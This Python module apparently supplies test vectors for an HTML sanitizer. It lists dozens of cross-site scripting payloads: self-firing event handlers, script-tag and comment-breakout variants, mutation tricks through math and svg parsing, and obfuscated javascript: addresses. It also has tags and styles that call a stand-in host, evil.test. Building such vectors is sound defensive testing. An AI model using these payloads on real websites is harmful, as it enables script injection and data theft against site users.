"""Ways in which an article may try to run a script or to call home. Each says `hit()`, or asks for `evil.test`.

Many are made of parts: the same trick in every attribute, tag or spelling that browsers were seen to fall for.
"""

from collections.abc import Iterator

EVIL = "http://evil.test/"

# Events that fire by themselves, and what makes them fire.
BY_THEMSELVES = {
    "img-error": "<img src=x: onerror=hit()>",
    "img-error-quoted": "<img src='x:' onerror='hit()'>",
    "img-error-slash": "<img/src=x:/onerror=hit()>",
    "img-error-newline": "<img\nsrc=x:\nonerror\n=\nhit()>",
    "img-error-upper": "<IMG SRC=x: ONERROR=hit()>",
    "img-error-entity": "<img src=x: onerror=&#104;it()>",
    "img-error-twice": "<img src=x: onerror=hit() onerror=0>",
    "img-error-srcset": "<img srcset='x: 1x' onerror=hit()>",
    "img-load": "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' onload=hit() onerror=hit()>",
    "image-alias": "<image src=x: onerror=hit()>",
    "video-source": "<video><source src=x: onerror=hit()></video>",
    "video-error": "<video src=x: onerror=hit()></video>",
    "audio-error": "<audio src=x: onerror=hit()></audio>",
    "audio-loadstart": "<audio src=x: onloadstart=hit()></audio>",
    "picture": "<picture><source srcset=x:><img src=x: onerror=hit()></picture>",
    "input-image": "<input type=image src=x: onerror=hit()>",
    "input-autofocus": "<input autofocus onfocus=hit()>",
    "select-autofocus": "<select autofocus onfocus=hit()></select>",
    "textarea-autofocus": "<textarea autofocus onfocus=hit()></textarea>",
    "button-autofocus": "<button autofocus onfocus=hit()>x</button>",
    "div-autofocus": "<div tabindex=0 autofocus onfocus=hit()>x</div>",
    "contenteditable-autofocus": "<p contenteditable autofocus onfocus=hit()>x</p>",
    "details-toggle": "<details open ontoggle=hit()><summary>x</summary></details>",
    "marquee-start": "<marquee onstart=hit()>x</marquee>",
    "body-load": "<body onload=hit()>",
    "body-pageshow": "<body onpageshow=hit()>",
    "svg-load": "<svg onload=hit()>",
    "svg-slash-load": "<svg/onload=hit()>",
    "svg-animate": "<svg><animate onbegin=hit() attributeName=x dur=1s></svg>",
    "svg-set": "<svg><set onbegin=hit() attributeName=x to=1 dur=1s></svg>",
    "svg-image": "<svg><image href=x: onerror=hit()></svg>",
    "svg-foreign": "<svg><foreignObject><img src=x: onerror=hit()></foreignObject></svg>",
    "svg-style": "<svg><style><img src=x: onerror=hit()></style></svg>",
    "svg-desc": "<svg><desc><img src=x: onerror=hit()></desc></svg>",
    "svg-title": "<svg><title><img src=x: onerror=hit()></title></svg>",
    "math-mtext": "<math><mtext><img src=x: onerror=hit()></mtext></math>",
    "object-error": "<object data=x: onerror=hit()></object>",
    "style-load": "<style onload=hit()></style>",
    "link-error": "<link rel=stylesheet href=x: onerror=hit()>",
    "script-error": "<script src=x: onerror=hit()></script>",
    "iframe-load": "<iframe onload=hit()></iframe>",
    "frameset": "<frameset onload=hit()><frame></frameset>",
    "animation": "<style>@keyframes a{}</style><p style='animation:a 1s' onanimationstart=hit()>x</p>",
    "transition": "<style>p{color:red;transition:1ms}p:target{color:blue}</style><p id=x ontransitionrun=hit()>x</p>",
    "popover-toggle": "<div popover id=p onbeforetoggle=hit()>x</div><button popovertarget=p>y</button>",
    "content-visibility": "<p style=content-visibility:auto oncontentvisibilityautostatechange=hit()>x</p>",
    "scrollend": "<div style='height:9px;overflow:auto' onscrollend=hit()><p style=height:99px id=x>x</div>",
}

SCRIPTS = {
    "plain": "<script>hit()</script>",
    "upper": "<SCRIPT>hit()</SCRIPT>",
    "typed": "<script type=module>hit()</script>",
    "unclosed": "<script>hit()",
    "in-slashes": "<script/x>hit()</script>",
    "end-space": "<script>hit()</script >",
    "end-slash": "<script>hit()</script/x>",
    "nested-name": "<scr<script>ipt>hit()</script>",
    "split": "<<script>hit()</script>",
    "nul": "<scr\x00ipt>hit()</scr\x00ipt><script\x00>hit()</script>",
    "cdata": "<![CDATA[<script>hit()</script>]]>",
    "comment": "<!--><script>hit()</script>-->",
    "comment-bang": "<!--x--!><script>hit()</script>",
    "comment-dash": "<!---><script>hit()</script>-->",
    "conditional": "<!--[if true]><script>hit()</script><![endif]-->",
    "bogus-comment": "<?xml <script>hit()</script> ?>",
    "bogus-end": "</x <script>hit()</script>",
    "data-source": "<script src='data:text/javascript,hit()'></script>",
    "remote-source": f"<script src={EVIL}a.js></script>",
    "in-svg": "<svg><script>hit()</script></svg>",
    "in-svg-href": "<svg><script href='data:text/javascript,hit()'></script></svg>",
    "in-math": "<math><script>hit()</script></math>",
    "in-title": "<title></title><script>hit()</script>",
    "out-of-title": "<title><!--</title><script>hit()</script>-->",
    "out-of-textarea": "<textarea><!--</textarea><script>hit()</script>-->",
    "out-of-style": "<style><!--</style><script>hit()</script>-->",
    "out-of-xmp": "<xmp><!--</xmp><script>hit()</script>-->",
    "out-of-noembed": "<noembed><!--</noembed><script>hit()</script>-->",
    "out-of-noframes": "<noframes><!--</noframes><script>hit()</script>-->",
    "out-of-iframe": "<iframe><!--</iframe><script>hit()</script>-->",
    "out-of-attribute": "<p title='</p><script>hit()</script>'>x</p>",
    "out-of-quotes": '<p title="a\'>"><script>hit()</script>',
    "in-select": "<select><script>hit()</script></select>",
    "in-table": "<table><script>hit()</script></table>",
    "in-template": "<template><script>hit()</script></template><div><template shadowrootmode=open><script>hit()"
    "</script></template></div>",
    "plaintext": "<plaintext></plaintext><script>hit()</script>",
    "noscript": "<noscript><p title='</noscript><script>hit()</script>'></noscript>",
}

# Trees that a browser builds otherwise than they are written, so that a filter and the browser disagree.
MUTATIONS = {
    "math-style": "<math><style><a title='</style><img src=x: onerror=hit()>'></style></math>",
    "math-mglyph": "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=hit()></style>"
    "</mglyph></form></mtext></math></form>",
    "math-annotation": "<math><annotation-xml encoding=text/html><style><img src=x: onerror=hit()></style>",
    "math-mglyph-svg": "<math><mtext><table><mglyph><svg><mtext><style><path id='</style><img src=x: onerror=hit()>'>",
    "math-mtext-mglyph-style": "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=x: "
    "onerror=hit()>'></style></mglyph></mtext></math><img src=x: onerror=hit()>",
    "math-malignmark": "<math><mtext><malignmark><style><img src=x: onerror=hit()></style></malignmark></mtext></math>",
    "math-mi-svg": "<math><mi><svg><mi><style><img src=x: onerror=hit()></style></mi></svg></mi></math>",
    "math-mo-table": "<table><math><mo><td><style><img src=x: onerror=hit()></style></td></mo></math></table>",
    "math-annotation-svg": "<math><annotation-xml><svg><foreignObject><img src=x: onerror=hit()></foreignObject></svg>"
    "</annotation-xml></math>",
    "math-annotation-xhtml": "<math><semantics><annotation-xml encoding='application/xhtml+xml'><img src=x: "
    "onerror=hit()></annotation-xml></semantics></math>",
    "math-annotation-text": "<math><annotation><img src=x: onerror=hit()></annotation></math>",
    "math-maction": "<math><maction actiontype='statusline#javascript:hit()'><mi>x</mi></maction></math>"
    "<img src=x: onerror=hit()>",
    "math-href": "<math><mi href='javascript:hit()' xlink:href='javascript:hit()'>x</mi></math>"
    "<img src=x: onerror=hit()>",
    "math-fence": "<math><mfenced open='<img src=x: onerror=hit()>' close='</mo></math><img src=x: onerror=hit()>'>"
    "<mi>x</mi></mfenced></math><img src=x: onerror=hit()>",
    "math-unclosed": "<math><mtext><p><math><mi><p><style><a title='</style><img src=x: onerror=hit()>'>",
    "math-cdata": "<math><![CDATA[<img src=x: onerror=hit()>]]></math><math><mtext><![CDATA[><img src=x: "
    "onerror=hit()>]]>",
    "math-select": "<select><math><mtext></select><style><img src=x: onerror=hit()></style></mtext></math>",
    "svg-math": "<svg><desc><math><mi><style><img src=x: onerror=hit()></style></mi></math></desc></svg>",
    "svg-foreign-math": "<svg><foreignObject><math><mtext><svg><style><img src=x: onerror=hit()></style>",
    "svg-annotation": "<math><annotation-xml encoding='text/html'></math><svg><style><img src=x: onerror=hit()>"
    "</style>",
    "frame-title": "<iframe src=about:blank title='\"><img src=x: onerror=hit()>'></iframe><img src=x: onerror=hit()>",
    "svg-p-style": "<svg></p><style><a title='</style><img src=x: onerror=hit()>'></style></svg>",
    "svg-cdata": "<svg><![CDATA[><img src=x: onerror=hit()>]]></svg>",
    "svg-desc-noscript": "<svg><desc><noscript></desc><img src=x: onerror=hit()></noscript></svg>",
    "table-form": "<table><form><table><img src=x: onerror=hit()></table></form></table>",
    "table-svg": "<table><svg><td><style><img src=x: onerror=hit()></style></td></svg></table>",
    "select-style": "<select><style></select><img src=x: onerror=hit()></style>",
    "noscript-style": "<noscript><style></noscript><img src=x: onerror=hit()></style>",
    "p-in-svg": "<svg><p><style><a title='</style><img src=x: onerror=hit()>'>",
    "nested-forms": "<form><input name=parentNode><form><img src=x: onerror=hit()></form></form>",
    "deep": "<div>" * 600 + "<img src=x: onerror=hit()>",
    "deep-formatting": "<b><i><u>" * 200 + "<img src=x: onerror=hit()>",
    "unclosed-attribute": "<p title='<img src=x: onerror=hit()>",
    "backtick": "<p title=`><img src=x: onerror=hit()>`>x</p>",
    "equals-name": '<p ="><img src=x: onerror=hit()>">x</p>',
    "lone-quotes": '<p "><img src=x: onerror=hit()>">x</p>',
    "entities": "&lt;img src=x: onerror=hit()&gt;",
    "double-entities": "&amp;lt;img src=x: onerror=hit()&amp;gt;",
    "utf7": "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "bidi": "\u202e<img src=x: onerror=hit()>\u202c",
    "wide": "＜script＞hit()＜/script＞<img src=x: onerror=hit()>",
    "surrogate-ish": "<img src=x: \ufffdonerror=hit() onerror=hit()>",
    "long-name": f"<{'a' * 70000} onclick=hit()><img src=x: onerror=hit()>",
}

# Addresses that are scripts, in the spellings that filters were seen to miss.
SCRIPT_ADDRESSES = (
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    "java\tscript:hit()",
    "java\nscript:hit()",
    "java&Tab;script:hit()",
    "javascript&colon;hit()",
    "&#106;avascript:hit()",
    "&#x6A;avascript&#58;hit()",
    " javascript:hit()",
    "\x01javascript:hit()",
    "javascript://%0ahit()",
    "javascript:void(hit())",
    "data:text/html,<script>parent.hit()</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KCk8L3NjcmlwdD4=",
    "vbscript:hit()",
    "view-source:javascript:hit()",
    "feed:javascript:hit()",
    "blob:javascript:hit()",
)
ADDRESSED = (
    "<a href='{}'>x</a>",
    "<iframe src='{}'></iframe>",
    "<form action='{}'><button>x</button></form>",
    "<object data='{}'></object>",
    "<svg><a xlink:href='{}'><text y=9>x</text></a></svg>",
    "<math href='{}'>x</math>",
)

# What calls home without any script.
CALLS = {
    "link-style": f"<link rel=stylesheet href={EVIL}a.css>",
    "link-prefetch": f"<link rel=prefetch href={EVIL}p>",
    "link-icon": f"<link rel=icon href={EVIL}i>",
    "link-preload": f"<link rel=preload as=image href={EVIL}i>",
    "link-manifest": f"<link rel=manifest href={EVIL}m>",
    "style-import": f"<style>@import '{EVIL}a.css'</style>",
    "style-background": f"<style>body{{background:url({EVIL}b)}}</style>",
    "inline-background": f"<p style='background:url({EVIL}b)'>x</p>",
    "inline-list": f"<ul style='list-style-image:url({EVIL}b)'><li>x</ul>",
    "inline-cursor": f"<p style='cursor:url({EVIL}c),auto'>x</p>",
    "font-face": f"<style>@font-face{{font-family:a;src:url({EVIL}f)}}p{{font-family:a}}</style><p>x",
    "background-attribute": f"<body background={EVIL}b><table background={EVIL}t><tr><td background={EVIL}d>x",
    "iframe": f"<iframe src={EVIL}f></iframe>",
    "iframe-srcdoc": f"<iframe srcdoc='<img src={EVIL}s><script>parent.hit()</script>'></iframe>",
    "frame": f"<frameset><frame src={EVIL}f></frameset>",
    "object": f"<object data={EVIL}o></object>",
    "embed": f"<embed src={EVIL}e>",
    "applet": f"<applet code={EVIL}a></applet>",
    "portal": f"<portal src={EVIL}p></portal>",
    "meta-refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "meta-refresh-script": "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "base": f"<base href={EVIL}><a href=x>x</a><link rel=stylesheet href=a.css>",
    "svg-use": f"<svg><use href='{EVIL}u#x'></svg>",
    "svg-image": f"<svg><image href={EVIL}i></svg>",
    "svg-feimage": f"<svg><filter id=f><feImage href={EVIL}i></filter><rect filter=url(#f) width=9 height=9></svg>",
    "video-track": f"<video><track default src={EVIL}t></video>",
    "input-image": f"<input type=image src={EVIL}i>",
    "form-auto": f"<form id=f action={EVIL}></form><button form=f autofocus>x</button>",
    "ping": f"<a href=#x ping={EVIL}>x</a>",
    "htmx-load": f"<div hx-get={EVIL} hx-trigger=load>x</div>",
    "htmx-data": f"<div data-hx-get={EVIL} data-hx-trigger=load>x</div>",
    "htmx-on": "<div hx-on:load=hit() hx-on::load=hit()>x</div>",
    "htmx-sse": f"<div hx-sse:connect={EVIL} sse-connect={EVIL}>x</div>",
    "import-map": '<script type=importmap>{"imports":{"a":"' + EVIL + '"}}</script>',
    "speculation": '<script type=speculationrules>{"prefetch":[{"urls":["' + EVIL + '"]}]}</script>',
    "xml-stylesheet": f"<?xml-stylesheet href='{EVIL}a.css'?>",
    "dns-prefetch": f"<link rel=dns-prefetch href={EVIL}><link rel=preconnect href={EVIL}>",
}


def all_vectors() -> Iterator[tuple[str, str]]:
    """Every vector with its name."""
    for kind, vectors in (("event", BY_THEMSELVES), ("script", SCRIPTS), ("mutation", MUTATIONS), ("call", CALLS)):
        for name, html in vectors.items():
            yield f"{kind}-{name}", html
    for frame in ADDRESSED:
        tag = frame.strip("<").split()[0].split(">")[0]
        for number, address in enumerate(SCRIPT_ADDRESSES):
            yield f"address-{tag}-{number}", frame.format(address)
